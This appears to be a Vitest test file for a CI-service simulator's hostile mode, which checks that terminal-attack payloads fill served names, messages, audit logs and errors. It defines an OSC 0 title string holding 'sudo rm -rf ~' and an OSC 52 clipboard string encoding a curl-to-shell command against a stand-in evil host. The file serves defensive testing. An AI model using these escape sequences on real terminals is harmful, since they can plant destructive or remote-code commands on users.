// Hostile mode: the terminal-attack corpus in every display string the simulator serves, while ids, slugs and URLs
// keep the story navigable. Real HTTP against 127.0.0.1.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sampleAuditEvents, writeSampleAudit } from '../../src/sim/audit/index.js';
import { startExlogareSim } from '../../src/sim/exlogare/index.js';
import { asReceived, CYCLED_PAYLOADS, OVERSIZED_PAYLOADS } from '../../src/sim/hostile/payloads.js';
import { SIM_MALICIOUS, SIM_PROJECT, TERMINAL_ATTACK_CORPUS, simPipelineId, simWorkflowId } from '../../src/sim/index.js';
import { useTmpDirs } from '../helpers/tmp.js';
import { allPages, api, build, get, projectPath, useSimulator } from './sim-test-kit.js';

const sim = useSimulator({ hostile: true });
const tmp = useTmpDirs();

// Each payload as a client reads it back (raw invalid bytes decoded to U+FFFD), longest first so a payload that
// contains a shorter one is named.
const RECEIVED = CYCLED_PAYLOADS.map((p) => ({ row: p.row, text: asReceived(p.text) })).sort((a, b) => b.text.length - a.text.length);
const OSC0 = '\x1b]0;sudo rm -rf ~\x07';
const OSC52 = '\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07';

/** Corpus rows whose payload occurs in `value` (as served, or as the simulator holds it before serving). */
function rowsIn(value: unknown): string[] {
  if (typeof value !== 'string') return [];
  const received = asReceived(value);
  return [...new Set(RECEIVED.filter((p) => received.includes(p.text)).map((p) => p.row))];
}

/** Asserts every named field carries at least one corpus row, and remembers which rows were seen. */
const seen = new Set<string>();
function expectHostile(fields: Record<string, unknown>): void {
  for (const [name, value] of Object.entries(fields)) {
    const rows = rowsIn(value);
    expect(rows, `${name} = ${JSON.stringify(value)?.slice(0, 120)}`).not.toEqual([]);
    rows.forEach((r) => seen.add(r));
  }
}

describe('rowsIn (the check the tests below rely on)', () => {
  it('finds a row in a hostile value and none in a plain one', () => {
    expect(rowsIn('build-test')).toEqual([]);
    expect(rowsIn(`build-test${OSC52}`)).toContain('E2');
  });
});

describe('simulator in hostile mode', () => {
  it('puts corpus rows in the project, the org and the current user', async () => {
    const project = await api(sim(), projectPath());
    expect(project.slug).toBe(SIM_PROJECT);
    expectHostile({ name: project.name, organization_name: project.organization_name, default_branch: project.vcs_info.default_branch, provider: project.vcs_info.provider });
    const me = await api(sim(), '/api/v2/me');
    expectHostile({ login: me.login, name: me.name });
    expectHostile({ collaboration: (await api(sim(), '/api/v2/me/collaborations'))[0].name });
  });

  it('puts corpus rows in every pipeline: actor, branch, tag, commit subject and body, errors', async () => {
    const { items } = await allPages(sim(), projectPath('/pipeline'));
    expect(items).toHaveLength(60);
    for (const p of items) {
      expect(p.id).toBe(simPipelineId(p.number));
      expectHostile({ actor: p.trigger.actor.login, branch: p.vcs.branch, subject: p.vcs.commit.subject, body: p.vcs.commit.body, git_branch: p.trigger_parameters.git.branch });
      if (p.number % 3 === 0) expectHostile({ tag: p.vcs.tag });
      if (p.number % 2 === 0) expectHostile({ error: p.errors[0].message });
    }
    // The oversized B4 variant is served once, in the malicious pipeline's commit body.
    const p896 = items.find((p: { number: number }) => p.number === SIM_MALICIOUS.pipeline);
    expect(p896.vcs.commit.body).toContain(OVERSIZED_PAYLOADS[0]!.text);
    // The branch filter still works with the hostile branch as served.
    const byBranch = await allPages(sim(), projectPath(`/pipeline?branch=${encodeURIComponent(p896.vcs.branch)}`));
    expect(byBranch.items.map((p: { number: number }) => p.number)).toEqual([SIM_MALICIOUS.pipeline]);
  });

  it('puts OSC 0 (title) and OSC 52 (clipboard) in every workflow and job name, plus another row', async () => {
    const wfs = (await allPages(sim(), `/api/v2/pipeline/${simPipelineId(SIM_MALICIOUS.pipeline)}/workflow`)).items;
    expect(wfs[0].id).toBe(simWorkflowId(SIM_MALICIOUS.pipeline, SIM_MALICIOUS.workflow));
    const jobs = (await allPages(sim(), `/api/v2/workflow/${wfs[0].id}/job`)).items;
    for (const name of [...wfs.map((w: { name: string }) => w.name), ...jobs.map((j: { name: string }) => j.name)]) {
      expect(name).toContain(OSC0);
      expect(name).toContain(OSC52);
      expect(rowsIn(name.replace(OSC0, '').replace(OSC52, '')), name).not.toEqual([]);
    }
  });

  it('puts corpus rows in job details: name, executor, messages, contexts, workflow, org, project', async () => {
    const d = await api(sim(), projectPath(`/job/${SIM_MALICIOUS.jobs.test}`));
    expect(d.number).toBe(SIM_MALICIOUS.jobs.test);
    expectHostile({
      name: d.name, executor: d.executor.type, message: d.messages[0].message, reason: d.messages[0].reason,
      workflow: d.latest_workflow.name, organization: d.organization.name, project: d.project.name,
    });
    expect(d.contexts).toHaveLength(2);
    d.contexts.forEach((c: { name: string }, i: number) => expectHostile({ [`context ${i}`]: c.name }));
    // A job's context names are the context list's names (clients join them).
    const list = (await allPages(sim(), '/api/v2/context?owner-slug=gh/acme')).items.map((c: { name: string }) => c.name);
    for (const c of d.contexts) expect(list).toContain(c.name);
  });

  it('puts corpus rows in the v1.1 build: commit, actor, names, executor, steps and bash commands', async () => {
    const b = await build(sim(), SIM_MALICIOUS.jobs.test);
    expectHostile({
      subject: b.subject, body: b.body, branch: b.branch, committer: b.committer_name, author: b.author_name, login: b.user.login,
      user: b.user.name, username: b.username, reponame: b.reponame, job_name: b.workflows.job_name, workflow_name: b.workflows.workflow_name,
      executor: b.picard.executor, message: b.messages[0].message, commit_subject: b.all_commit_details[0].subject,
    });
    for (const s of b.steps) {
      expectHostile({ [`step ${s.actions[0].step}`]: s.name });
      for (const a of s.actions) {
        expectHostile({ [`action name ${a.step}`]: a.name });
        if (a.bash_command !== null) expectHostile({ [`bash_command ${a.step}`]: a.bash_command });
      }
    }
    // Presigned output links still work.
    const withOutput = b.steps.flatMap((s: { actions: { output_url?: string | null }[] }) => s.actions).find((a: { output_url?: string | null }) => a.output_url);
    expect((await get(withOutput.output_url)).status).toBe(200);
  });

  it('puts corpus rows in artifact paths, and every artifact can still be fetched', async () => {
    const { items } = await allPages(sim(), projectPath(`/${SIM_MALICIOUS.jobs.test}/artifacts`));
    expect(items.length).toBeGreaterThan(10);
    for (const a of items) {
      expectHostile({ path: a.path });
      const hop = await get(a.url);
      expect(hop.status, a.path).toBe(302);
      expect((await get(hop.headers.get('location')!)).status).toBe(200);
    }
  });

  it('puts corpus rows in env var names, context names and context variable names', async () => {
    const vars = (await allPages(sim(), projectPath('/envvar'))).items;
    vars.forEach((v: { name: string; value: string }) => {
      expectHostile({ [`env ${v.value}`]: v.name });
      expect(v.value).toMatch(/^x+.{4}$/);
    });
    for (const c of (await allPages(sim(), '/api/v2/context?owner-slug=gh/acme')).items) {
      expectHostile({ context: c.name });
      for (const v of (await allPages(sim(), `/api/v2/context/${c.id}/environment-variable`)).items) expectHostile({ variable: v.variable });
    }
  });

  it("puts corpus rows (OSC 0 and OSC 52 among them) in the simulator's error messages and bodies", async () => {
    const notFound = await get(`${sim().apiUrl}${projectPath('/job/999999')}`);
    expect(notFound.status).toBe(404);
    const v1 = await get(`${sim().apiUrl}/api/v1.1/project/gh/acme/payments/999999`);
    const artifact = await get(`${sim().artifactsUrl}/5015/0/nope`);
    const storage = await get(`${sim().storageUrl}/output/nope`);
    for (const text of [notFound.json().message, v1.json().message, artifact.text, storage.text]) {
      expect(text).toContain(OSC0);
      expect(text).toContain(OSC52);
    }
    expectHostile({ notFound: notFound.json().message, storage: storage.text });
  });

  it('switches live: the knob decides what the next request sees', async () => {
    sim().options.hostile = false;
    try {
      expect((await api(sim(), '/api/v2/me')).login).toBe('sim-responder');
    } finally {
      sim().options.hostile = true;
    }
    expect((await api(sim(), '/api/v2/me')).login).not.toBe('sim-responder');
  });

  it('serves every corpus row somewhere (raw invalid UTF-8 rows as raw bytes)', async () => {
    // Fields of the other tests, plus a whole sweep of the routine jobs' builds.
    for (const job of [4000, 4001, 4002, 4004, 4005, 4006]) {
      const b = await build(sim(), job);
      for (const s of b.steps) expectHostile({ step: s.name });
    }
    const rows = TERMINAL_ATTACK_CORPUS.map((r) => r.id);
    expect(rows.filter((r) => !seen.has(r))).toEqual([]);
    const raw = Buffer.from(await (await fetch(`${sim().apiUrl}${projectPath('/pipeline')}`)).arrayBuffer());
    expect(raw.includes(Buffer.from([0xff, 0xfe])) || raw.includes(Buffer.from([0xc0, 0xaf])) || raw.includes(Buffer.from([0x9b]))).toBe(true);
  });
});

describe('hostile audit log and Exlogare', () => {
  it('puts corpus rows in every name and free-text cell, keeping ids, actions and the join names', () => {
    const plain = sampleAuditEvents();
    const hostile = sampleAuditEvents({ hostile: true });
    expect(hostile.map((e) => [e.id, e.action, e.occurred_at, e.request.ip_address])).toEqual(plain.map((e) => [e.id, e.action, e.occurred_at, e.request.ip_address]));
    for (const e of hostile) {
      expectHostile({ actor: e.actor.name, target: e.target.name, scope: e.scope.name, org: e.organization.name, trace: e.request.client_trace_id, meta: e.metadata.source });
      for (const [k, v] of Object.entries(e.payload)) if (typeof v === 'string' && !/_id$|slug/.test(k)) expectHostile({ [`${e.action} ${k}`]: v });
    }
    // Written twice, the same bytes (the cycle restarts per write).
    expect(sampleAuditEvents({ hostile: true })).toEqual(hostile);
  });

  it('writes the hostile audit file with raw bytes where the corpus has them', async () => {
    // The download's JSON blobs escape ESC (\u001b) but not invalid bytes; the flat layout has raw ESC in its cells.
    const blobs = readFileSync(await writeSampleAudit(join(tmp(), 'audit.csv'), 'csv', { hostile: true }));
    expect(blobs.includes(Buffer.from([0xff, 0xfe]))).toBe(true);
    expect(blobs.includes(Buffer.from('\\u001b]52;c;'))).toBe(true);
    const flat = readFileSync(await writeSampleAudit(join(tmp(), 'flat.csv'), 'csv-flat', { hostile: true }));
    expect(flat.includes(Buffer.from('\x1b]52;c;'))).toBe(true);
  });

  it('answers with a hostile RCA and hostile error messages', async () => {
    const ex = await startExlogareSim({ hostile: true });
    try {
      const payload = { project_slug: SIM_PROJECT, workflow_id: 'w', job_name: 'lint', job_number: 5016, status: 'failed', log: 'npm ERR! boom\n' };
      const ok = await fetch(`${ex.url}/api/ingest/circleci`, { method: 'POST', headers: { authorization: `Bearer ${ex.token}`, 'content-type': 'application/json' }, body: JSON.stringify(payload) });
      expect(ok.status).toBe(200);
      const rca = (await ok.json()) as { id: string; summary: string; root_cause: string; suggestions: string[]; job: { project_slug: string; job_name: string } };
      expect(rca.id).toMatch(/^rca_[0-9a-f]{12}$/);
      expect(rca.job.project_slug).toBe(SIM_PROJECT);
      expectHostile({ summary: rca.summary, root_cause: rca.root_cause, suggestion: rca.suggestions[0], job_name: rca.job.job_name });
      const denied = await fetch(`${ex.url}/api/ingest/circleci`, { method: 'POST', body: '{}' });
      expect(denied.status).toBe(401);
      expect(((await denied.json()) as { message: string }).message).toContain(OSC52);
    } finally {
      await ex.close();
    }
  });
});

describe('simulator in normal mode', () => {
  it('serves no corpus row outside the malicious step output and artifact', async () => {
    const { startSimulator } = await import('../../src/sim/index.js');
    const plain = await startSimulator();
    try {
      const pipelines = (await get(`${plain.apiUrl}${projectPath('/pipeline')}`)).text;
      expect(pipelines).not.toMatch(/\\u001b|\x1b/);
      expect((await get(`${plain.apiUrl}/api/v2/me`)).json().login).toBe('sim-responder');
    } finally {
      await plain.close();
    }
  });
});
